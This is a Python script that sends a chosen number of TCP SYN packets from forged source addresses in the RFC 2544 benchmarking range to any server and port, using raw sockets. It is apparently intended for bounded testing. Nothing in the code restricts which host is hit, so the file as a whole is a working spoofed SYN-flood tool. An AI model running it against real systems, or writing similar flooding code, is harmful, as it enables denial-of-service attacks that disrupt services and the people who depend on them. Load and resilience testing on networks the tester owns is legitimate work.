"""Sends a bounded number of TCP SYNs from forged addresses (198.18.0.0/15, RFC 2544) and prints how many.

usage: flood.py SERVER PORT COUNT
"""
import socket
import struct
import sys

server, port, count = socket.inet_aton(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


for n in range(count):
    source = struct.pack("!I", 0xC6120000 + n % (1 << 17))
    tcp = struct.pack("!HHIIBBHHH", 1024 + n % 60000, port, n, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + server + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # The kernel fills in length, identification and checksum of the IP header.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 6, 0, source, server)
    sender.sendto(ip + tcp, (sys.argv[1], 0))
print(count)
